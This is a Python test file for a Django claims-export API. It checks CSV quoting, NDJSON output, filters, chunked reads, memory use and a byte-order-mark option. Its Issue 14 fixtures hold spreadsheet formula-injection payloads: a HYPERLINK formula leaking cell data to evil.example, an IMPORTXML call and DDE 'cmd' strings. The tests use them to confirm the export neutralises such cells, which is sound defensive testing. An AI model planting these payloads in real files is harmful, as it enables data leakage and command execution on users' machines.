"""The streamed export: row counts, CSV quoting, NDJSON lines, filters and memory that does not grow."""

import codecs
import csv
import gc
import io
import json
import tracemalloc
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse

from claims.choices import Verdict
from claims.models import Tag
from tests import factories

NASTY = 'He said "yes, 100%",\nthen: 处理时间超过十秒，"对吗"？'


def read(response) -> str:
    assert response.status_code == 200, getattr(response, "content", b"")
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def test_csv_has_header_and_one_row_per_claim_quoted_properly(client, db):
    tricky = factories.PublishedClaimFactory(quote=NASTY, text='Comma, quote " and\r\nnewline', claimant="李明")
    for _ in range(4):
        factories.PublishedClaimFactory()
    factories.ClaimFactory()  # a draft: not exported to the anonymous
    response = client.get("/api/v1/claims/export/?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(read(response), newline="")))
    assert len(rows) == 5
    row = next(r for r in rows if r["id"] == str(tricky.pk))
    assert row["quote"] == NASTY
    assert row["text"] == 'Comma, quote " and\r\nnewline'
    assert row["claimant"] == "李明"
    assert row["sources"] == tricky.evidence.get().source.url
    assert row["retracted"] == "false"


def test_csv_is_the_default(client, db):
    factories.PublishedClaimFactory()
    assert read(client.get("/api/v1/claims/export/")).startswith("id,status,")


def test_ndjson_lines_parse_and_filters_apply(client, db):
    for verdict in (Verdict.FALSE, Verdict.FALSE, Verdict.TRUE):
        factories.PublishedClaimFactory(verdict=verdict, quote=NASTY)
    response = client.get("/api/v1/claims/export/?format=ndjson&verdict=false")
    assert response["Content-Type"].startswith("application/x-ndjson")
    lines = read(response).splitlines()
    assert len(lines) == 2
    rows = [json.loads(line) for line in lines]
    assert {r["verdict"] for r in rows} == {"false"}
    assert rows[0]["quote"] == NASTY
    assert isinstance(rows[0]["tags"], list)


def test_bad_format_and_bad_filter_are_400(client, db):
    response = client.get("/api/v1/claims/export/?format=xlsx")
    assert response.status_code == 400
    assert "format" in response.json()
    response = client.get("/api/v1/claims/export/?format=csv&verdict=nope")
    assert response.status_code == 400
    assert "verdict" in response.json()


def test_rows_are_read_in_chunks(client, db, settings, django_assert_max_num_queries):
    settings.API_EXPORT_CHUNK_SIZE = 10
    for _ in range(25):
        factories.PublishedClaimFactory()
    response = client.get("/api/v1/claims/export/?format=ndjson")
    with django_assert_max_num_queries(1 + 3 * 2) as captured:
        assert len(read(response).splitlines()) == 25
    # One query over a server-side cursor (fetched 10 rows at a time); tags and cited urls gathered in it.
    assert len(captured.captured_queries) == 1
    assert "claims_evidence" in captured.captured_queries[0]["sql"]


@pytest.mark.slow
def test_memory_does_not_grow_with_the_number_of_claims(client, db, settings):
    # Chunks of 10 rows: what the read-ahead thread holds besides the chunk being written stays small.
    settings.API_EXPORT_CHUNK_SIZE = 10

    def make(n):
        return [factories.PublishedClaimFactory(quote="x" * 3000) for _ in range(n)]

    def export():
        gc.collect()
        tracemalloc.start()
        total = sum(len(chunk) for chunk in client.get("/api/v1/claims/export/?format=csv").streaming_content)
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return top, total

    make(400)
    export()  # imports and caches warmed up
    half_peak, half_total = export()
    make(400)
    full_peak, full_total = export()
    assert full_total > 2_400_000
    assert full_total > 1.9 * half_total
    # Twice the claims, twice the output: a streamed export holds a few chunks of rows at a time, whatever the
    # size of the file, so its peak stays where it was (holding the file would double it).
    assert full_peak < 1.25 * half_peak, (half_peak, full_peak)


# --- Issue 14: what a spreadsheet does with the CSV -------------------------------------------------------------

# Cells that Excel, LibreOffice or Sheets would run as formulas, in the fields imports and reviewers fill.
HOSTILE = {
    "claimant": '=HYPERLINK("https://evil.example/?leak="&A2,"李明")',
    "quote": "+1+cmd|' /C calc'!A0",
    "text": "-2+3+cmd|' /C calc'!A0",
    "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "unit": "\t=1+1",
}
HOSTILE_TITLE = '＝IMPORTXML("https://evil.example/","//a")'
HOSTILE_TAG = "=cmd|' /C calc'!A0"


def csv_rows(response, *, encoding: str = "utf-8") -> dict[str, dict]:
    text = b"".join(response.streaming_content).decode(encoding)
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.fixture
def hostile(db):
    article = factories.ArticleFactory(title=HOSTILE_TITLE)
    claim = factories.PublishedClaimFactory(article=article, value=Decimal("-3"), **HOSTILE)
    claim.tags.add(Tag.objects.create(name=HOSTILE_TAG))
    return claim


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(client, hostile):
    row = csv_rows(client.get("/api/v1/claims/export/?format=csv"))[str(hostile.pk)]
    for field, text in HOSTILE.items():
        assert row[field] == "'" + text, field
    assert row["article_title"] == "'" + HOSTILE_TITLE
    # A figure of ours is a typed number, not text anyone typed: it stays a number a spreadsheet can add up.
    assert row["value"] == "-3.000000"
    # Inside the tags' JSON array the hostile tag starts no cell.
    assert row["tags"].startswith("[")
    assert json.loads(row["tags"]) == [HOSTILE_TAG]


def test_ndjson_and_the_api_keep_the_same_text_exactly(client, hostile):
    response = client.get("/api/v1/claims/export/?format=ndjson")
    exported = json.loads(b"".join(response.streaming_content))
    detail = client.get(f"/api/v1/claims/{hostile.pk}/").json()
    for field, text in HOSTILE.items():
        assert exported[field] == text, field
        assert detail[field] == text, field
    assert exported["article_title"] == HOSTILE_TITLE
    assert exported["tags"] == detail["tags"] == [HOSTILE_TAG]
    assert exported["value"] == "-3.000000"


def test_tags_survive_the_csv_whatever_they_hold(client, db):
    names = ["AI 视频", "sora", 'say "hi", then', "[not, json]", "a|b", "tab\there", "=1+1"]
    tagged = factories.PublishedClaimFactory()
    tagged.tags.add(*(Tag.objects.create(name=name) for name in names))
    untagged = factories.PublishedClaimFactory()
    rows = csv_rows(client.get("/api/v1/claims/export/?format=csv"))
    assert json.loads(rows[str(tagged.pk)]["tags"]) == sorted(names)
    assert json.loads(rows[str(untagged.pk)]["tags"]) == []


def test_a_byte_order_mark_on_asking_so_excel_reads_chinese(client, db):
    claim = factories.PublishedClaimFactory(claimant="李明", quote="处理时间超过十秒")
    raw = b"".join(client.get("/api/v1/claims/export/", {"format": "csv", "bom": "1"}).streaming_content)
    assert raw.startswith(codecs.BOM_UTF8 + b"id,status,")
    row = csv_rows(client.get("/api/v1/claims/export/", {"bom": "true"}), encoding="utf-8-sig")[str(claim.pk)]
    assert (row["claimant"], row["quote"]) == ("李明", "处理时间超过十秒")
    for plain in ({}, {"bom": "0"}, {"bom": "false"}, {"bom": ""}):
        raw = b"".join(client.get("/api/v1/claims/export/", {"format": "csv", **plain}).streaming_content)
        assert raw.startswith(b"id,status,"), plain


@pytest.mark.parametrize(
    "query", [{"bom": "x"}, {"bom": "2"}, {"bom": "1\x00"}, {"format": "ndjson", "bom": "1"}], ids=str
)
def test_a_bad_bom_is_a_400_naming_it(client, db, query):
    response = client.get("/api/v1/claims/export/", query)
    assert response.status_code == 400
    assert list(response.json()) == ["bom"]
